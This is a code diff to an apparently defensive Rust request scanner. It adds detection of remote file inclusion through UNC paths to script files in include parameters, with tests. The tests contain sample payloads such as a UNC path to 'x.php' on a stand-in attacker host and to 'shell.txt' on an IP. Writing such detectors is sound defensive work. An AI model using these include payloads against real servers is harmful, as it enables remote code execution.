@@ -124,6 +124,9 @@ pub fn files(s: &str, cx: &Ctx<'_>) -> Option<ClassFound> {
     if !s.contains(['.', '/', '\\', ':']) {
         return None;
     }
+    if let Some(f) = unc_include(s, cx) {
+        return Some(f);
+    }
     let p = norm_path(s);
     // Filters that strip `../` once leave `....//` as `../`.
     // (Most values have no `..` at all: one scan instead of four.)
@@ -883,6 +886,41 @@ const RFI_PARAMS: &[&str] = &[
     "config[root_dir]",
 ];
 
+/// Whether `url`'s path names a script or a text file an include runs.
+fn script_file(url: &str) -> bool {
+    let path = url
+        .split(['?', '#'])
+        .next()
+        .unwrap_or("")
+        .to_ascii_lowercase();
+    [
+        ".txt", ".php", ".inc", ".phtml", ".asp", ".jsp", ".sh", ".pl", ".gif?",
+    ]
+    .iter()
+    .any(|e| path.ends_with(e))
+}
+
+/// A UNC path to a script as the whole value of an include parameter
+/// (`page=\\evil.example\share\x.php`): PHP on Windows includes it
+/// over SMB, a remote include with no URL scheme. A file share's
+/// document (`path=\\nas\finance\q3.xlsx`) is none.
+fn unc_include(s: &str, cx: &Ctx<'_>) -> Option<ClassFound> {
+    let rest = s.strip_prefix("\\\\")?;
+    let param = cx
+        .name
+        .rsplit('.')
+        .next()
+        .unwrap_or("")
+        .to_ascii_lowercase();
+    let host = rest.split(['\\', '/']).next().unwrap_or("");
+    (matches!(cx.kind, Kind::Value)
+        && INCLUDE_PARAMS.contains(&param.as_str())
+        && !host.is_empty()
+        && rest.contains(['\\', '/'])
+        && script_file(rest))
+    .then_some(("rfi", "rfi.unc_include", 0.7))
+}
+
 /// A URL that is the whole value of a parameter, judged as a remote include.
 fn rfi(url: &str, host: &str, cx: &Ctx<'_>) -> Option<ClassFound> {
     if matches!(cx.kind, Kind::Header) {
@@ -899,18 +937,7 @@ fn rfi(url: &str, host: &str, cx: &Ctx<'_>) -> Option<ClassFound> {
     }
     let ip_host = lenient_ipv4(host).is_some() || host.parse::<Ipv6Addr>().is_ok();
     let trailing_q = url.trim_end().ends_with('?') || url.trim_end().ends_with("%3f");
-    let script = {
-        let path = url
-            .split(['?', '#'])
-            .next()
-            .unwrap_or("")
-            .to_ascii_lowercase();
-        [
-            ".txt", ".php", ".inc", ".phtml", ".asp", ".jsp", ".sh", ".pl", ".gif?",
-        ]
-        .iter()
-        .any(|e| path.ends_with(e))
-    };
+    let script = script_file(url);
     if trailing_q {
         return Some(("rfi", "rfi.trailing_query", 0.8));
     }
@@ -4158,6 +4185,28 @@ mod tests {
     /// A source-code host's views of a repository's files name files in
     /// the repository, hidden or dumped ones included; this server's own
     /// hidden files, and traversal out of such a view, are still found.
+    /// A UNC path to a script in an include parameter is a remote include
+    /// (SMB); a share's document, or a UNC path in another field, is not.
+    #[test]
+    fn unc_includes() {
+        let page = cx(Kind::Value, "query.page");
+        for a in [
+            "\\\\evil.example\\share\\x.php",
+            "\\\\10.0.0.9\\s\\shell.txt",
+        ] {
+            assert_eq!(
+                files(a, &page).map(|f| f.1),
+                Some("rfi.unc_include"),
+                "{a:?}"
+            );
+        }
+        let path = cx(Kind::Value, "query.path");
+        assert!(unc_include("\\\\nas\\finance\\q3.xlsx", &path).is_none());
+        let note = cx(Kind::Value, "body.json.note");
+        assert!(unc_include("\\\\evil.example\\share\\x.php", &note).is_none());
+        assert!(unc_include("\\\\x.php", &page).is_none());
+    }
+
     #[test]
     fn repository_file_views_are_no_server_files() {
         let path = cx(Kind::Path, "path");
